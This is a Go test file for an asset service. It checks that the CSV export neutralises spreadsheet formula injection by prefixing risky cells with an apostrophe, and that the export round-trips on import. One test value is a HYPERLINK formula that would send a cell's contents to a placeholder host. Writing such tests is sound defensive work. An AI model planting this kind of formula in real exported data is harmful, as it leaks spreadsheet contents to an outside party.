package asset_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"vorgang/core/asset"
)

// TestExportNeutralisesFormulas wants cells a spreadsheet would run as a
// formula written with a leading apostrophe, and the export imported
// again to change nothing.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	ctx := t.Context()
	bld := f.mustCreate(t, asset.Input{Class: "building", Name: ptr("Rathaus"), Data: map[string]any{"street": "Markt 1", "postcode": "01067", "city": "Dresden"}})
	tests := []struct {
		name, stored, exported string
		floor                  float64
	}{
		{"equals", `=HYPERLINK("http://x/?"&A1)`, `'=HYPERLINK("http://x/?"&A1)`, 1},
		{"plus", "+1+1", "'+1+1", 1},
		{"minus", "-2+3", "'-2+3", 1},
		{"at", "@SUM(A1)", "'@SUM(A1)", 1},
		{"an apostrophe before a formula gets one more", "'=1+1", "''=1+1", 1},
		{"plain text", "Raum 'A'", "Raum 'A'", 1},
		{"a negative number stays a number", "Keller", "Keller", -2},
	}
	for _, tt := range tests {
		f.mustCreate(t, asset.Input{Class: "room", Name: ptr(tt.stored), Data: map[string]any{"room_number": fmt.Sprint("R", len(tt.name)), "floor": tt.floor, "usage": "office"},
			Relations: map[string][]string{"building": {bld.Number}}})
	}
	var out bytes.Buffer
	if err := f.svc.Export(ctx, reader, &out, asset.Query{Class: "room"}, "de"); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int {
		for i, h := range recs[0] {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	names := map[string]bool{}
	floors := map[string]bool{}
	for _, r := range recs[1:] {
		names[r[col("name")]] = true
		floors[r[col("floor")]] = true
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if !names[tt.exported] {
				t.Errorf("no cell %q in the export:\n%s", tt.exported, out.String())
			}
		})
	}
	if !floors["-2"] {
		t.Errorf("a negative floor is not written as a number:\n%s", out.String())
	}
	rep, err := f.svc.Import(ctx, writer, bytes.NewReader(out.Bytes()), asset.ImportOptions{Class: "room"})
	if err != nil || len(rep.Errors) > 0 || rep.Unchanged != len(tests) {
		t.Fatalf("importing the export changed something: %+v, %v", rep, err)
	}
	// A cell written with the apostrophe by hand is read without it.
	file := "name,room_number,usage,building\n'=1+1,X1,office," + bld.Number + "\n"
	rep, err = f.svc.Import(ctx, writer, strings.NewReader(file), asset.ImportOptions{Class: "room"})
	if err != nil || rep.Created != 1 {
		t.Fatalf("import: %+v, %v", rep, err)
	}
	a, err := f.svc.Get(ctx, reader, rep.Numbers[0])
	if err != nil || a.Name != "=1+1" {
		t.Fatalf("imported %+v, %v", a, err)
	}
}
